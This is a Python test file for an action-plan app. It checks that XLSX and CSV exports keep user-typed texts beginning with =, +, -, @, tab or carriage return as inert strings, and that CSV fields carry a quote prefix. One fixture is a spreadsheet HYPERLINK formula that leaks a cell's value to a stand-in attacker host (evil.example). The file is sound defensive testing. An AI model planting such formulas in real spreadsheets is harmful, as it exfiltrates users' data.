"""Formula injection: what an officer types reaches the manager's spreadsheet as text.

A plan whose texts start with = + - @ is saved through the API and exported as the
manager: in the XLSX every such cell is a string cell holding exactly what was typed
(openpyxl would otherwise write "=..." as a live formula), numbers stay numbers, and
in the CSV each such field starts with a single quote (OWASP's CSV-injection advice).
A tab or a carriage return cannot lead a saved text (texts are stripped), so those
two leads are checked on the file builders directly.
"""

from __future__ import annotations

import csv
import io
from decimal import Decimal
from pathlib import Path
from typing import Any

from openpyxl import load_workbook
from temporalio.testing import WorkflowEnvironment

from domain.calendar import WITA
from domain.catalog import load_catalog
from komitmen.demo import sample_plan
from services.exports import PLAN_COLUMNS, Column, Table, to_csv, to_xlsx
from tests.api.client import running_api

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&C2,"detail")'
# The exported text columns of an item, each given a text a spreadsheet would run.
HOSTILE = {
    "activity": HYPERLINK,
    "indicator": "+1 desa tangguh",
    "target_unit": "-desa",
    "responsible_unit": "@SUM(A1:A9)",
    "location": "=1+2",
}
HEADERS = {
    "activity": "Uraian aksi",
    "indicator": "Indikator",
    "target_unit": "Satuan",
    "responsible_unit": "Penanggung jawab",
    "location": "Lokasi",
}
NUMBERS = ("Versi", "No.", "Target", "Pagu (Rp)")


def hostile_plan() -> dict[str, Any]:
    """The sample plan of 53.01 whose first item's texts all start like a formula."""
    plan: dict[str, Any] = sample_plan(load_catalog().get("53.01")).model_dump(mode="json")
    first = dict(plan["items"][0], **HOSTILE, target_value="12.5", budget_rp="40000000")
    return {"items": [first, *plan["items"][1:]]}


async def test_exported_texts_never_become_formulas(
    dev_server_env: WorkflowEnvironment, db_url: str, tmp_path: Path
) -> None:
    year = (await dev_server_env.get_current_time()).astimezone(WITA).year + 1
    async with running_api(dev_server_env.client, db_url, tmp_path) as api:
        cycle = await api.start_cycle(["53.01"], year)
        saved = await api.post(
            f"/cycles/{cycle}/commitments/53.01/save-draft",
            "operator-5301",
            {"plan": hostile_plan(), "based_on_version": 0},
        )
        assert saved.status_code == 200, saved.text

        xlsx = await api.get(f"/cycles/{cycle}/exports/action-plans.xlsx", "manajer")
        assert xlsx.status_code == 200, xlsx.text
        sheet = load_workbook(io.BytesIO(xlsx.content)).worksheets[0]
        header = [cell.value for cell in sheet[1]]
        first = {name: sheet.cell(row=2, column=header.index(name) + 1) for name in header}
        assert first["No."].value == 1
        for field, text in HOSTILE.items():
            cell = first[HEADERS[field]]
            assert (cell.data_type, cell.value) == ("s", text), field
        for name in NUMBERS:
            assert first[name].data_type == "n", name
        assert first["Target"].value == 12.5 and first["Pagu (Rp)"].value == 40000000
        formulas = [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]
        assert formulas == []

        response = await api.get(f"/cycles/{cycle}/exports/action-plans.csv", "manajer")
        assert response.status_code == 200, response.text
        rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))
        named = dict(zip(rows[0], rows[1], strict=True))
        for field, text in HOSTILE.items():
            assert named[HEADERS[field]] == "'" + text, field
        assert (named["No."], Decimal(named["Target"]), named["Pagu (Rp)"]) == (
            "1",
            Decimal("12.5"),
            "40000000",
        )
        for row in rows[1:]:
            assert not any(value.startswith(("=", "+", "-", "@", "\t", "\r")) for value in row)


def test_tab_and_carriage_return_leads_are_neutralised_too() -> None:
    columns = (Column("Teks", 10), Column("Angka", 8, "0"))
    texts = ["\t=1+1", "\r=1+1", "=A1", "+A1", "-A1", "@A1", "biasa"]
    table = Table("Uji", columns, [[text, Decimal(-3)] for text in texts])
    rows = list(csv.reader(io.StringIO(to_csv(table).decode("utf-8-sig"), newline="")))
    assert rows[1:] == [["'" + t if t != "biasa" else t, "-3"] for t in texts]
    sheet = load_workbook(io.BytesIO(to_xlsx(table))).worksheets[0]
    for row, text in enumerate(texts, start=2):
        text_cell, number_cell = sheet.cell(row=row, column=1), sheet.cell(row=row, column=2)
        # openpyxl's own XML reader reads a carriage return back as a line feed; with lxml
        # installed it stays a carriage return. Either way it stays text.
        assert text_cell.data_type == "s"
        assert text_cell.value in (text, text.replace("\r", "\n"))
        assert (number_cell.data_type, number_cell.value) == ("n", -3)
    assert [c.header for c in PLAN_COLUMNS].count("Uraian aksi") == 1
